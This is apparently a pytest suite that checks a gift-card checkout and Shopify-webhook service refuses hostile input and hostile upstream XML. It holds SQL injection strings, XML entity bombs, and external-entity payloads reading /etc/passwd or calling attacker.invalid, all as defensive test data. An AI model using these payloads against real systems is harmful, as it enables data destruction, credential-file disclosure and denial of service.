# ruff: noqa: RUF001  (other scripts' digits and fullwidth letters are the point of these tests)
"""Hostile requests to the checkout and webhook endpoints, and hostile XML from upstreams.

Every refusal is a clear 4xx `application/problem+json` with type, title, status, detail and
code, never a 500, and leaves the database as it was: no shadow card, ledger entry, job or
inbox row. Card numbers and PINs in other scripts' digits are refused, never normalised.
Upstream XML with a DTD (entity bombs, external entities) is refused by the clients before
any expansion, and surfaces as their ordinary upstream error.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from app.clients.errors import UnknownOutcome, UpstreamError, UpstreamUnavailable
from app.clients.onsite import OnSiteClient
from app.clients.vii import ViiClient
from app.main import create_app
from app.runtime import Runtime, install_features
from app.sandbox.vii import DEMO_PASSWORD, DEMO_STORE_ID, DEMO_USERNAME
from app.sync.shadow import ShadowDeps
from app.sync.shadow.gate import CardGate
from app.worker import Worker
from tests.wiring import Upstreams, shadow_upstreams

CARD = "6280001234567890"
PIN = "4321"
SECRET = "shpss_test_7204f8ff39c46c2d"  # make_settings' shopify_api_secret
PROBLEM_KEYS = {"type", "title", "status", "detail", "code"}
TABLES = ("shadow_cards", "ledger", "jobs", "webhook_inbox", "findings", "gift_cards")
VALID = {"viiCardNumber": CARD, "viiCardPin": PIN, "cartTotal": "20.00", "checkoutToken": "c-1"}

SQL_INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE shadow_cards; --",
    "' UNION SELECT pin_ciphertext FROM shadow_cards --",
    "$$; DELETE FROM ledger; $$",
]
XML_INJECTIONS = [
    "</CardNumber><Amount>9999.00</Amount><CardNumber>",
    "<![CDATA[</PIN>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&lt;&amp;&#0;",
]
# Digits Decimal() and int() would accept; the API must refuse them, not translate them.
FOREIGN_DIGIT_CARDS = [
    "٦٢٨٠٠٠١٢٣٤٥٦٧٨٩٠",  # Arabic-Indic
    "۶۲۸۰۰۰۱۲۳۴۵۶۷۸۹۰",  # Extended Arabic-Indic (Persian)
    "６２８０００１２３４５６７８９０",  # fullwidth
    "६२८०००१२३४५६७८९०",  # Devanagari
    "628000123456789٠",  # one foreign digit at the end
    "62800012345678９0",  # one fullwidth digit inside
    "6280001234567\u200b890",  # zero-width space
    "628000123456789²",  # superscript
]


def assert_problem(response: httpx.Response, status: int, code: str | None = None) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert set(body) >= PROBLEM_KEYS, body
    assert body["status"] == status
    assert isinstance(body["detail"], str) and body["detail"]
    if code is not None:
        assert body["code"] == code, body


async def row_counts(engine: AsyncEngine) -> dict[str, int]:
    async with engine.connect() as connection:
        return {
            table: int(await connection.scalar(text(f"SELECT count(*) FROM {table}")))
            for table in TABLES
        }


async def assert_untouched(engine: AsyncEngine) -> None:
    assert await row_counts(engine) == dict.fromkeys(TABLES, 0)


@dataclass
class Shop:
    http: httpx.AsyncClient
    up: Upstreams
    runtime: Runtime
    engine: AsyncEngine

    def vii_requests(self) -> int:
        return self.up.vii_sim.request_count


@pytest.fixture
async def shop(runtime: Runtime, engine: AsyncEngine) -> AsyncIterator[Shop]:
    async with shadow_upstreams(runtime) as up:
        up.vii_sim.add_card(CARD, PIN, Decimal("50.00"))
        app = create_app(runtime, run_worker=False)
        # A 500 must reach the assertions as a response, not as a raised exception.
        transport = httpx.ASGITransport(
            app=app, client=("10.0.0.8", 5000), raise_app_exceptions=False
        )
        async with httpx.AsyncClient(transport=transport, base_url="http://giftsync.test") as http:
            yield Shop(http, up, runtime, engine)


def _with(**changes: Any) -> dict[str, Any]:
    body = dict(VALID)
    for name, value in changes.items():
        if value is _MISSING:
            body.pop(name, None)
        else:
            body[name] = value
    return body


_MISSING = object()

CHECK_BALANCE_REFUSALS: list[tuple[str, dict[str, Any]]] = [
    # wrong types
    ("number as int", _with(viiCardNumber=6280001234567890)),
    ("number as float", _with(viiCardNumber=6.28000123456789e15)),
    ("number null", _with(viiCardNumber=None)),
    ("number list", _with(viiCardNumber=[CARD])),
    ("number object", _with(viiCardNumber={"$ne": ""})),
    ("number bool", _with(viiCardNumber=True)),
    ("pin as int", _with(viiCardPin=4321)),
    ("pin list", _with(viiCardPin=[PIN])),
    ("cart bool", _with(cartTotal=True)),
    ("cart null", _with(cartTotal=None)),
    ("cart list", _with(cartTotal=["20.00"])),
    ("cart object", _with(cartTotal={"amount": "20.00"})),
    ("token int", _with(checkoutToken=1)),
    ("token list", _with(checkoutToken=["c-1"])),
    # huge numbers
    ("cart 10**30", _with(cartTotal=10**30)),
    ("cart 10**30 string", _with(cartTotal=str(10**30))),
    ("cart 1e308", _with(cartTotal=1e308)),
    ("cart 1e15", _with(cartTotal=10**15)),
    ("cart exponent string", _with(cartTotal="1e3")),
    ("cart above max", _with(cartTotal="100000000.00")),
    # negative, zero, NaN, Infinity, too precise
    ("cart negative", _with(cartTotal=-20)),
    ("cart negative string", _with(cartTotal="-20.00")),
    ("cart zero", _with(cartTotal="0.00")),
    ("cart negative zero", _with(cartTotal="-0.00")),
    ("cart NaN string", _with(cartTotal="NaN")),
    ("cart Infinity string", _with(cartTotal="Infinity")),
    ("cart -Infinity string", _with(cartTotal="-Infinity")),
    ("cart three places", _with(cartTotal="20.001")),
    ("cart comma", _with(cartTotal="20,00")),
    ("cart hex", _with(cartTotal="0x14")),
    ("cart Arabic-Indic", _with(cartTotal="٢٠.٠٠")),
    ("cart fullwidth", _with(cartTotal="２０.００")),
    # missing fields
    ("no number", _with(viiCardNumber=_MISSING)),
    ("no cart", _with(cartTotal=_MISSING)),
    ("empty object", {}),
    # card number and PIN shapes
    ("number too short", _with(viiCardNumber="62800012345")),
    ("number too long", _with(viiCardNumber="6" * 20)),
    ("number with spaces", _with(viiCardNumber="6280 0012 3456 7890")),
    ("number with dashes", _with(viiCardNumber="6280-0012-3456-7890")),
    ("number with newline", _with(viiCardNumber=CARD + "\n")),
    ("number with NUL", _with(viiCardNumber=CARD + "\x00")),
    ("pin too short", _with(viiCardPin="123")),
    ("pin too long", _with(viiCardPin="123456789")),
    ("pin Arabic-Indic", _with(viiCardPin="٤٣٢١")),
    ("pin fullwidth", _with(viiCardPin="４３２１")),
    ("pin NUL", _with(viiCardPin="43\x0021")),
    ("token empty", _with(checkoutToken="")),
    ("token too long", _with(checkoutToken="t" * 256)),
    ("token NUL", _with(checkoutToken="c-1\x00")),
    ("token emoji", _with(checkoutToken="c-\U0001f4b3")),
    *[(f"number {digits!r}", _with(viiCardNumber=digits)) for digits in FOREIGN_DIGIT_CARDS],
    *[
        (f"{field} sql {n}", _with(**{field: value}))
        for field in ("viiCardNumber", "viiCardPin", "checkoutToken", "cartTotal")
        for n, value in enumerate(SQL_INJECTIONS)
    ],
    *[
        (f"{field} xml {n}", _with(**{field: value}))
        for field in ("viiCardNumber", "viiCardPin", "checkoutToken", "cartTotal")
        for n, value in enumerate(XML_INJECTIONS)
    ],
]


@pytest.mark.parametrize(
    "body", [body for _, body in CHECK_BALANCE_REFUSALS], ids=[n for n, _ in CHECK_BALANCE_REFUSALS]
)
async def test_check_balance_refuses_hostile_bodies_with_422(
    shop: Shop, body: dict[str, Any]
) -> None:
    response = await shop.http.post("/check-balance", json=body)
    assert_problem(response, 422, "invalid_request")
    # The detail names the field, never echoes a card number or PIN.
    detail = response.json()["detail"]
    assert CARD not in detail and PIN not in detail
    assert shop.vii_requests() == 0
    await assert_untouched(shop.engine)


RAW_BODIES = {
    "NaN literal": b'{"viiCardNumber": "6280001234567890", "viiCardPin": "4321", "cartTotal": NaN}',
    "Infinity literal": b'{"viiCardNumber": "6280001234567890", "cartTotal": Infinity}',
    "-Infinity literal": b'{"viiCardNumber": "6280001234567890", "cartTotal": -Infinity}',
    "1e309 literal": b'{"viiCardNumber": "6280001234567890", "cartTotal": 1e309}',
    "huge integer literal": b'{"viiCardNumber": "6280001234567890", "cartTotal": '
    + b"9" * 5000
    + b"}",
    "not JSON": b"viiCardNumber=6280001234567890&cartTotal=20.00",
    "truncated JSON": b'{"viiCardNumber": "6280001234567890", "cartTotal": "20.00"',
    "JSON array": b'[{"viiCardNumber": "6280001234567890", "cartTotal": "20.00"}]',
    "JSON string": b'"6280001234567890"',
    "JSON null": b"null",
    "empty": b"",
    "bad UTF-8": b'{"viiCardNumber": "\xff\xfe", "cartTotal": "20.00"}',
    "nested 100k deep": b'{"viiCardNumber": "6280001234567890", "cartTotal": "20.00", "x": '
    + b"[" * 100_000
    + b"]" * 100_000
    + b"}",
    "XML body": b"<Request><CardNumber>6280001234567890</CardNumber></Request>",
}


@pytest.mark.parametrize("raw", list(RAW_BODIES.values()), ids=list(RAW_BODIES))
async def test_check_balance_refuses_bodies_that_are_not_a_json_object(
    shop: Shop, raw: bytes
) -> None:
    response = await shop.http.post(
        "/check-balance", content=raw, headers={"Content-Type": "application/json"}
    )
    assert_problem(response, 422, "invalid_request")
    assert shop.vii_requests() == 0
    await assert_untouched(shop.engine)


@pytest.mark.parametrize("content_type", ["text/plain", "application/xml", None])
async def test_check_balance_with_a_non_json_content_type_is_a_4xx_problem(
    shop: Shop, content_type: str | None
) -> None:
    headers = {"Content-Type": content_type} if content_type else {}
    response = await shop.http.post(
        "/check-balance", content=json.dumps(VALID).encode(), headers=headers
    )
    assert 400 <= response.status_code < 500, response.text
    assert_problem(response, response.status_code)
    await assert_untouched(shop.engine)


async def test_check_balance_ignores_extra_fields_and_never_echoes_them(shop: Shop) -> None:
    body = {
        **VALID,
        "amountApplied": "9999.00",
        "shopifyGiftCardCode": "attackerchosen01",
        "viiBalance": "1000000.00",
        "state": "captured",
        "__proto__": {"admin": True},
        "cartTotal ": "1.00",
        # A real field, but only a re-size reads it: a new card never takes a chosen token.
        "applyToken": "attackerchosentoken01",
    }
    response = await shop.http.post("/check-balance", json=body)
    assert response.status_code == 200, response.text
    answer = response.json()
    assert answer["amountApplied"] == "20.00"
    assert answer["shopifyGiftCardCode"] != "attackerchosen01"
    assert answer["viiBalance"] == "50.00"
    assert set(answer) == {
        "amountApplied",
        "shopifyGiftCardCode",
        "shopifyGiftCardLastCharacters",
        "shopifyGiftCardStatus",
        "viiGiftCardNumber",
        "viiBalance",
        "availableBalance",
        "expiresAt",
        "applyToken",
    }
    assert answer["applyToken"] != "attackerchosentoken01"
    resize = {key: VALID[key] for key in ("viiCardNumber", "checkoutToken")}
    chosen = await shop.http.post(
        "/check-balance",
        json={**resize, "cartTotal": "10.00", "applyToken": "attackerchosentoken01"},
    )
    assert chosen.status_code == 403 and chosen.json()["code"] == "invalid_card_or_pin"
    given = await shop.http.post(
        "/check-balance", json={**resize, "cartTotal": "10.00", "applyToken": answer["applyToken"]}
    )
    assert given.status_code == 200 and given.json()["amountApplied"] == "10.00"
    assert CARD not in response.text
    assert (await row_counts(shop.engine))["shadow_cards"] == 1


async def test_a_json_number_cart_total_keeps_its_written_value(shop: Shop) -> None:
    response = await shop.http.post("/check-balance", json=_with(cartTotal=20.1))
    assert response.status_code == 200, response.text
    assert response.json()["amountApplied"] == "20.10"


# ---- /check-balance/release --------------------------------------------------------------

RELEASE_REFUSALS: list[tuple[str, Any]] = [
    ("token int", {"checkoutToken": 1, "shopifyGiftCardCode": "abcd1234abcd1234"}),
    ("code int", {"checkoutToken": "c-1", "shopifyGiftCardCode": 12345678}),
    ("code null", {"checkoutToken": "c-1", "shopifyGiftCardCode": None}),
    ("code list", {"checkoutToken": "c-1", "shopifyGiftCardCode": ["abcd1234"]}),
    ("token object", {"checkoutToken": {"$gt": ""}, "shopifyGiftCardCode": "abcd1234"}),
    ("no token", {"shopifyGiftCardCode": "abcd1234abcd1234"}),
    ("no code", {"checkoutToken": "c-1"}),
    ("empty", {}),
    ("token empty", {"checkoutToken": "", "shopifyGiftCardCode": "abcd1234"}),
    ("token too long", {"checkoutToken": "t" * 256, "shopifyGiftCardCode": "abcd1234"}),
    ("code empty", {"checkoutToken": "c-1", "shopifyGiftCardCode": ""}),
    ("code too long", {"checkoutToken": "c-1", "shopifyGiftCardCode": "a" * 65}),
    ("code Arabic-Indic", {"checkoutToken": "c-1", "shopifyGiftCardCode": "٦٢٨٠٠٠١٢٣٤"}),
    ("code fullwidth", {"checkoutToken": "c-1", "shopifyGiftCardCode": "ＡＢＣＤ１２３４"}),
    ("code NUL", {"checkoutToken": "c-1", "shopifyGiftCardCode": "abcd1234\x00"}),
    *[
        (f"code sql {n}", {"checkoutToken": "c-1", "shopifyGiftCardCode": value})
        for n, value in enumerate(SQL_INJECTIONS)
    ],
    *[
        (f"code xml {n}", {"checkoutToken": "c-1", "shopifyGiftCardCode": value})
        for n, value in enumerate(XML_INJECTIONS)
    ],
    ("array", [{"checkoutToken": "c-1", "shopifyGiftCardCode": "abcd1234"}]),
]


@pytest.mark.parametrize(
    "body", [body for _, body in RELEASE_REFUSALS], ids=[n for n, _ in RELEASE_REFUSALS]
)
async def test_release_refuses_hostile_bodies_with_422(shop: Shop, body: Any) -> None:
    response = await shop.http.post("/check-balance/release", json=body)
    assert_problem(response, 422, "invalid_request")
    await assert_untouched(shop.engine)


@pytest.mark.parametrize(
    "token", [*SQL_INJECTIONS, *XML_INJECTIONS, "c-1' --", "٦٢٨٠", "ＡＢＣ"], ids=repr
)
async def test_release_with_a_hostile_token_finds_nothing_and_harms_nothing(
    shop: Shop, token: str
) -> None:
    """A token `/check-balance` would never have issued is refused like any bad input, and
    changes nothing."""
    applied = await shop.http.post("/check-balance", json=VALID)
    assert applied.status_code == 200
    before = await row_counts(shop.engine)
    code = applied.json()["shopifyGiftCardCode"]
    response = await shop.http.post(
        "/check-balance/release", json={"checkoutToken": token, "shopifyGiftCardCode": code}
    )
    assert_problem(response, 422, "invalid_request")
    assert await row_counts(shop.engine) == before
    async with shop.engine.connect() as connection:
        state = await connection.scalar(text("SELECT state FROM shadow_cards"))
    assert state == "applied"


async def test_release_with_nul_in_the_token_is_422(shop: Shop) -> None:
    response = await shop.http.post(
        "/check-balance/release",
        json={"checkoutToken": "c-1\x00", "shopifyGiftCardCode": "abcd1234abcd1234"},
    )
    assert_problem(response, 422, "invalid_request")


# ---- /webhooks/shopify ---------------------------------------------------------------------


def _sign(body: bytes) -> str:
    return base64.b64encode(hmac.new(SECRET.encode(), body, hashlib.sha256).digest()).decode()


def _webhook_headers(
    body: bytes, topic: str = "orders/paid", signed: bool = True
) -> dict[str, str]:
    return {
        "X-Shopify-Hmac-Sha256": _sign(body) if signed else _sign(body + b"x"),
        "X-Shopify-Topic": topic,
        "X-Shopify-Webhook-Id": str(uuid.uuid4()),
        "X-Shopify-Event-Id": str(uuid.uuid4()),
        "X-Shopify-Shop-Domain": "sandbox.myshopify.com",
        "Content-Type": "application/json",
    }


HOSTILE_PAYLOADS: list[dict[str, Any]] = [
    {"id": value} for value in [*SQL_INJECTIONS, *XML_INJECTIONS, None, True, [], {"$ne": 1}]
] + [
    {"id": 10**30, "order_id": -1, "amount": "1e309", "gateway": "gift_card", "kind": "sale"},
    {"id": 1, "order_id": 2, "amount": "NaN", "gateway": "gift_card", "kind": "sale"},
    {"id": 1, "order_id": 2, "amount": "-5.00", "gateway": "gift_card", "kind": "sale"},
    {
        "id": 1,
        "order_id": "gid://shopify/Order/1'; DROP TABLE jobs; --",
        "amount": "5.00",
        "gateway": "gift_card",
        "kind": "sale",
        "status": "success",
        "receipt": {"gift_card_id": "<x/>", "gift_card_last_characters": "٧٨٩٠"},
    },
    {"order_id": 3, "transactions": "not a list"},
    {"order_id": 3, "transactions": [None, 1, "x", {"gateway": "gift_card", "amount": []}]},
]


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS, ids=lambda p: json.dumps(p)[:40])
async def test_unsigned_hostile_webhooks_are_401_and_store_nothing(
    shop: Shop, payload: dict[str, Any]
) -> None:
    body = json.dumps(payload).encode()
    response = await shop.http.post(
        "/webhooks/shopify", content=body, headers=_webhook_headers(body, signed=False)
    )
    assert_problem(response, 401, "invalid_hmac")
    await assert_untouched(shop.engine)


@pytest.mark.parametrize(
    "topic", ["orders/paid", "order_transactions/create", "refunds/create", "orders/cancelled"]
)
async def test_signed_hostile_payloads_are_stored_and_processed_without_effect(
    shop: Shop, topic: str
) -> None:
    """Signed means Shopify sent it: it is kept, and the handlers find nothing to do in it."""
    for payload in HOSTILE_PAYLOADS:
        body = json.dumps(payload).encode()
        response = await shop.http.post(
            "/webhooks/shopify", content=body, headers=_webhook_headers(body, topic)
        )
        assert response.status_code == 200, response.text
    worker = Worker(shop.runtime.sessions, shop.runtime.handlers)
    for _ in range(5):
        async with shop.engine.begin() as connection:
            await connection.execute(text("UPDATE jobs SET run_at = now() WHERE state = 'queued'"))
        if not await worker.run_once():
            break
    counts = await row_counts(shop.engine)
    assert (counts["shadow_cards"], counts["ledger"], counts["findings"]) == (0, 0, 0)
    assert counts["webhook_inbox"] == len(HOSTILE_PAYLOADS)
    async with shop.engine.connect() as connection:
        unfinished = await connection.scalar(
            text("SELECT count(*) FROM jobs WHERE state <> 'done'")
        )
        unprocessed = await connection.scalar(
            text("SELECT count(*) FROM webhook_inbox WHERE processed_at IS NULL")
        )
    assert (unfinished, unprocessed) == (0, 0)
    assert shop.vii_requests() == 0


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("X-Shopify-Topic", "orders/paid' OR '1'='1"),
        ("X-Shopify-Topic", "<topic>orders/paid</topic>"),
        ("X-Shopify-Webhook-Id", "1'; DROP TABLE webhook_inbox; --"),
        ("X-Shopify-Event-Id", "x" * 300),
        ("X-Shopify-Shop-Domain", "evil.com/<script>"),
    ],
)
async def test_signed_webhooks_with_hostile_headers_are_400(
    shop: Shop, header: str, value: str
) -> None:
    body = b'{"id": 1}'
    headers = _webhook_headers(body)
    headers[header] = value
    response = await shop.http.post("/webhooks/shopify", content=body, headers=headers)
    assert_problem(response, 400, "invalid_header")
    await assert_untouched(shop.engine)


# ---- hostile XML from upstreams ------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Response><ResponseCode>0</ResponseCode><ResponseMessage>&lol9;</ResponseMessage>
<AvailableBalance>50.00</AvailableBalance><CurrentBalance>50.00</CurrentBalance>
<PreAuthCode>&lol9;</PreAuthCode></Response>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY leak SYSTEM "file:///etc/passwd">]>
<Response><ResponseCode>0</ResponseCode><ResponseMessage>&leak;</ResponseMessage>
<AvailableBalance>50.00</AvailableBalance><CurrentBalance>50.00</CurrentBalance>
<PreAuthCode>&leak;</PreAuthCode></Response>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd">
<Response><ResponseCode>0</ResponseCode><AvailableBalance>50.00</AvailableBalance>
<CurrentBalance>50.00</CurrentBalance><PreAuthCode>H1</PreAuthCode></Response>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Response><ResponseCode>0</ResponseCode></Response>"""
HOSTILE_XML = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
}


@dataclass
class Answering:
    """A MockTransport handler that answers every request with one body, and counts them."""

    body: bytes
    status: int = 200
    content_type: str = "text/xml"
    requests: int = 0

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests += 1
        return httpx.Response(
            self.status, content=self.body, headers={"Content-Type": self.content_type}
        )


def _vii(answer: Answering) -> ViiClient:
    return ViiClient(
        "http://vii.hostile/",
        DEMO_USERNAME,
        DEMO_PASSWORD,
        DEMO_STORE_ID,
        timeout=2.0,
        backoff=0.0,
        transport=httpx.MockTransport(answer),
    )


@pytest.mark.parametrize("xml", list(HOSTILE_XML.values()), ids=list(HOSTILE_XML))
async def test_vii_refuses_hostile_xml_for_a_balance_check(xml: bytes) -> None:
    answer = Answering(xml)
    vii = _vii(answer)
    try:
        with pytest.raises(UpstreamUnavailable) as caught:
            await vii.check_balance(CARD, PIN)
    finally:
        await vii.aclose()
    message = str(caught.value)
    assert "lol" not in message and "root:" not in message
    assert CARD not in message and PIN not in message
    assert answer.requests >= 1  # the client's own retries, and nothing fetched elsewhere


@pytest.mark.parametrize("xml", list(HOSTILE_XML.values()), ids=list(HOSTILE_XML))
async def test_vii_hostile_xml_for_a_hold_is_an_unknown_outcome(xml: bytes) -> None:
    """A hold's answer that cannot be read may hide a hold: unknown, so the caller undoes it."""
    vii = _vii(Answering(xml))
    try:
        with pytest.raises(UnknownOutcome) as caught:
            await vii.pre_auth(CARD, PIN, Decimal("10.00"), "shadow:test")
    finally:
        await vii.aclose()
    assert isinstance(caught.value, UpstreamError)
    assert "lol" not in str(caught.value) and "root:" not in str(caught.value)


async def test_check_balance_with_vii_answering_an_entity_bomb_is_503_and_stores_nothing(
    runtime: Runtime, engine: AsyncEngine
) -> None:
    async with shadow_upstreams(runtime) as up:
        vii = _vii(Answering(BILLION_LAUGHS))
        runtime.shadow = ShadowDeps.build(
            runtime.sessions, CardGate(runtime.engine), runtime.settings, vii, up.shop
        )
        install_features(runtime)
        app = create_app(runtime, run_worker=False)
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
        try:
            async with httpx.AsyncClient(transport=transport, base_url="http://t") as http:
                response = await http.post("/check-balance", json=VALID)
        finally:
            await vii.aclose()
    assert_problem(response, 503, "vii_unavailable")
    assert "retry-after" in response.headers
    counts = await row_counts(engine)
    assert (counts["shadow_cards"], counts["ledger"]) == (0, 0)
    assert up.shop_sim.shop.gift_cards == {}


def _onsite(answer: Answering) -> OnSiteClient:
    return OnSiteClient(
        "https://onsite.hostile:9630",
        "user",
        "password",
        "com.example.giftsync",
        "private-id",
        timeout=2.0,
        transport=httpx.MockTransport(answer),
        read_attempts=1,
        retry_base_delay=0.0,
    )


@pytest.mark.parametrize("xml", list(HOSTILE_XML.values()), ids=list(HOSTILE_XML))
async def test_onsite_refuses_hostile_xml_in_a_read(xml: bytes) -> None:
    answer = Answering(xml, content_type="application/xml")
    onsite = _onsite(answer)
    try:
        with pytest.raises(UpstreamUnavailable) as caught:
            await onsite.get_customer("42")
        with pytest.raises(UpstreamUnavailable):
            async for _ in onsite.iter_invoices_since(None):
                pass
    finally:
        await onsite.aclose()
    assert "lol" not in str(caught.value) and "root:" not in str(caught.value)


@pytest.mark.parametrize("xml", list(HOSTILE_XML.values()), ids=list(HOSTILE_XML))
async def test_onsite_refuses_hostile_xml_in_an_error_answer(xml: bytes) -> None:
    onsite = _onsite(Answering(xml, status=400, content_type="application/xml"))
    try:
        with pytest.raises(UpstreamError) as caught:
            await onsite.get_customer("42")
    finally:
        await onsite.aclose()
    assert not isinstance(caught.value, UnknownOutcome)
    assert "lol" not in str(caught.value) and "root:" not in str(caught.value)
